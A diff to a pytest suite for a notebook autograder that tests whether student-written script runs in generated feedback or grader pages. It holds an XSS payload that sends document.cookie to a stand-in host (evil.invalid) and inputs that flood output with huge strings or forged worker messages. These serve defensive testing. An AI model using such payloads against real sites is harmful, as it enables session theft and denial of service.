@@ -10,10 +10,9 @@ from nbconvert.exporters import HTMLExporter
 from traitlets.config import Config
 
 from autograder.grading.outputs import Room, clean_outputs
-from autograder.handin.rebuild import rebuild
 from autograder.records.autograded import autograded_notebook
 
-from .arena import MOMENTUM, known_cells
+from .arena import known_cells
 
 PWN = "window.__pwned = 1; fetch('https://evil.invalid/' + document.cookie)"
 PAYLOADS = [
@@ -93,7 +92,7 @@ GIANTS = {
     "row-40-error": "raise ValueError('x' * 10**8)",
     "row-40-display": "display({'text/plain': 'x' * 10**8}, raw=True)",
     "row-40-repr": "class Big:\n    def __repr__(self): return 'x' * 10**8\nBig()",
-    "new-outputs-forged-on-the-line": "import os\nfrom descent_worker.wire import encode\n"
+    "new-outputs-forged-on-the-line": "import os\nfrom sandbox_worker.wire import encode\n"
     "text = [{'output_type': 'stream', 'name': 'stdout', 'text': 'x' * 99_999}] * 100\n"
     "for number in range(9): os.write(3, encode({'id': number, 'kind': 'outputs', 'outputs': text}))",
 }
@@ -158,7 +157,7 @@ def test_the_browser_notices_an_attack_that_works(opened, tmp_path):
 @pytest.mark.browser
 def test_no_script_of_a_student_runs_in_the_feedback(arena, hostile, opened, tmp_path):
     """row-57-script-in-feedback"""
-    page = arena.pages(*hostile)["feedback.html"]
+    page = arena.pages(hostile[1])["feedback.html"]
     assert "__pwned" in page  # it is there, as text
     assert opened(page, tmp_path) == []
     without_policy = page.replace("Content-Security-Policy", "Nothing")
@@ -169,8 +168,8 @@ def test_no_script_of_a_student_runs_in_the_feedback(arena, hostile, opened, tmp
 @pytest.mark.browser
 def test_no_script_of_a_student_runs_for_the_graders(arena, hostile, opened, tmp_path):
     """row-57-script-in-formgrader: the notebook as formgrader's exporter shows it, with the course's settings."""
-    data, result = hostile
-    notebook = autograded_notebook(rebuild(data, MOMENTUM).cells, result, known_cells())
+    _, result = hostile
+    notebook = autograded_notebook("momentum", result, known_cells())
     notebook = nbformat.reads(json.dumps(notebook), as_version=4)
     config = Config()
     config.TemplateExporter.filters = {"markdown2html": "autograder.hooks.safe_markdown.markdown"}
